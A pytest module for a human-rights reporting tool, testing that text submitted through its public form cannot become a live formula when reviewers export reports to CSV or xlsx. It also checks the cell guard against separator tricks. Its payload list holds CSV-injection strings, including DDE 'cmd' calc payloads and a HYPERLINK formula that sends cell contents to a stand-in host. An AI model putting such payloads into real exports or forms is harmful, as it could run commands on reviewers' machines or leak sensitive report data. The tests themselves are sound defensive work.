"""Report text never becomes a live formula in a reviewer's spreadsheet.

Anyone who finds the public form can type ``Chiadzwa;=1+1;`` or
``=HYPERLINK(...&B2)``. Each payload below is typed into the real web form,
sealed, exported in a bundle, imported by a reviewer and exported again by
``reporter review export``; LibreOffice then opens the CSV with ``,``, ``;``
and tab as separator (Excel's default in French and Portuguese locales is
``;``) and formula evaluation on, and opens the ``.xlsx`` as it is. No cell
may be a formula, and the spreadsheet holds every text exactly as sent.
A control exports the same reports with the old first-character guard and
shows that LibreOffice does find formulas in it, so the probe can fail.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reporter.review import export
from tests.conftest import Station, form_token, valid_report
from tests.soffice import LibreOffice, libreoffice  # noqa: F401 (a session fixture)

Run = Callable[..., tuple[int, str, str]]
HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?"&B2&C2;"Click for the photos")'
PAYLOADS = [
    "Chiadzwa;=1+1;",
    "Chiadzwa\t=1+1\t",
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", " =1+1", "\t=1+1", "\r=1+1",
    HYPERLINK, f"Marange;{HYPERLINK}",
    "=cmd|' /C calc'!A0", "a;-2+3+cmd|' /C calc'!A0", "a;@SUM(1+1)*cmd|' /C calc'!A0",
    'a;"=1+1"', 'a;""=1+1', 'a;"b;=1+1"', "a; =1+1", "a;\u00a0=1+1",
    "The fence was cut\n=1+1", "wounded:\r\n- Tendai\r\n- Rudo", "a;\n=2+2",
    "a,=1+1", "x;'=1+1", "MU-7 saw it; -3 degrees", "Kasaï – ÉTÉ 2026",
]
FIELDS = ("description", "location", "perpetrator_other", "date_approximate",
          "contact_details")


def first_character_guard(text: str) -> str:
    """The guard before issue 10 (the control): only the first character was looked at."""
    return "'" + text if text.startswith(("=", "+", "-", "@", "\t", "\r")) else text


@pytest.fixture
def reports(run: Run, client: Any, station: Station, key_file: Path,
            tmp_path: Path) -> list[dict[str, Any]]:
    """Every payload typed into every text field of the form, through to the review
    database; the reports' fields as the review database holds them."""
    for payload in PAYLOADS:
        token = form_token(client.get("/").get_data(as_text=True))
        answers = valid_report(contact="contact", **dict.fromkeys(FIELDS, payload))
        response = client.post("/", data={"form_token": token, **answers})
        assert response.status_code == 200 and "receipt" in response.get_data(as_text=True)
    assert run("export", "--out", str(tmp_path / "1.rptr"))[0] == 0
    code, _, err = run("review", "import", str(tmp_path / "1.rptr"), "--key", str(key_file))
    assert code == 0, err
    code, _, err = run("review", "export", "--format", "jsonl",
                       "--out", str(tmp_path / "all.jsonl"))
    assert code == 0, err
    lines = (tmp_path / "all.jsonl").read_text(encoding="utf-8").splitlines()
    fields = [json.loads(line)["report"]["fields"] for line in lines]
    assert len(fields) == len(PAYLOADS)
    return fields


def test_no_cell_of_the_csv_is_a_formula_under_any_separator(
        run: Run, reports: list[dict[str, Any]], libreoffice: LibreOffice,  # noqa: F811
        tmp_path: Path) -> None:
    out = tmp_path / "reports.csv"
    code, _, err = run("review", "export", "--format", "csv", "--out", str(out))
    assert code == 0, err
    sheets = {separator: libreoffice.open(out, separator) for separator in (",", ";", "\t")}
    for separator, sheet in sheets.items():
        assert sheet.formulas == [], (repr(separator), sheet.formulas)
    # With the file's own separator, every cell is the (guarded) text, whole.
    assert "Chiadzwa;'=1+1;" in sheets[","].cells()
    assert "Kasaï – ÉTÉ 2026" in sheets[","].cells()


def test_the_probe_finds_formulas_in_a_csv_guarded_by_the_first_character_only(
        reports: list[dict[str, Any]], libreoffice: LibreOffice,  # noqa: F811
        tmp_path: Path) -> None:
    issue = {"Chiadzwa;=1+1;", "Chiadzwa\t=1+1\t", f"Marange;{HYPERLINK}"}  # as reported
    out = tmp_path / "old-guard.csv"
    with out.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream, lineterminator="\r\n")
        for number, fields in enumerate(reports, 1):
            if fields["description"] in issue:  # the id first, as in the real export
                writer.writerow([number] + [first_character_guard(fields[f]) for f in FIELDS])
    assert libreoffice.open(out, ",").formulas == []  # the old guard held for commas...
    semicolon = libreoffice.open(out, ";").formulas  # ...but not for the others
    assert "of:=1+1" in semicolon and any("HYPERLINK" in f for f in semicolon), semicolon
    assert "of:=1+1" in libreoffice.open(out, "\t").formulas


def test_the_spreadsheet_export_holds_typed_text_exactly_as_sent(
        run: Run, reports: list[dict[str, Any]], libreoffice: LibreOffice,  # noqa: F811
        tmp_path: Path) -> None:
    out = tmp_path / "reports.xlsx"
    code, _, err = run("review", "export", "--format", "xlsx", "--out", str(out))
    assert code == 0, err
    assert out.stat().st_mode & 0o777 == 0o600
    sheet = libreoffice.open(out)
    assert sheet.formulas == []
    header, *rows = [row for row in sheet.rows if row]
    assert header == list(export.CSV_COLUMNS)
    assert len(rows) == len(PAYLOADS)
    for row, fields in zip(rows, reports, strict=True):
        cells = dict(zip(header, row + [""] * (len(header) - len(row)), strict=True))
        for field in FIELDS:  # as the monitor sent it: no apostrophe, nothing lost
            # (A line break in ODF is a new paragraph: CR LF and LF read back alike.)
            assert cells[field] == fields[field].replace("\r\n", "\n")
        # The HURIDOCS code of "shooting" is text: its leading zero is kept.
        assert cells["type_codes_huridocs"] == "020101000000"


def test_the_spreadsheet_export_refuses_a_standard_output_terminal(
        run: Run, reports: list[dict[str, Any]], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    code, _, err = run("review", "export", "--format", "xlsx")
    assert code == 2 and "give --out FILE.xlsx" in err


# --- the guard itself ---------------------------------------------------------------------

_CELL_BREAKS = (";", "\t", "\r", "\n")


def cell_starts(text: str) -> list[str]:
    """Every piece of ``text`` a spreadsheet splitting on ``;`` or tab may make a cell
    of, as it would read it: leading quotes and spaces dropped."""
    pieces = [text]
    for mark in _CELL_BREAKS:
        pieces = [part for piece in pieces for part in piece.split(mark)]
    return [piece.lstrip('" \u00a0\u3000\v\f\x1c\x1d\x1e\x1f\x85\u2028\u2029') for piece in
            pieces]


@given(st.text(alphabet=st.sampled_from('=+-@;\t\r\n" a\'1\u00a0,'), max_size=40)
       | st.text(max_size=40))
def test_no_piece_of_a_guarded_cell_starts_a_formula(text: str) -> None:
    guarded = export.guard_cell(text)
    assert guarded.replace("'", "") == text.replace("'", "")  # only apostrophes added
    for piece in cell_starts(guarded):
        assert not piece.startswith(("=", "+", "-", "@")), (text, guarded)
    assert not guarded.startswith(("=", "+", "-", "@", "\t", "\r"))
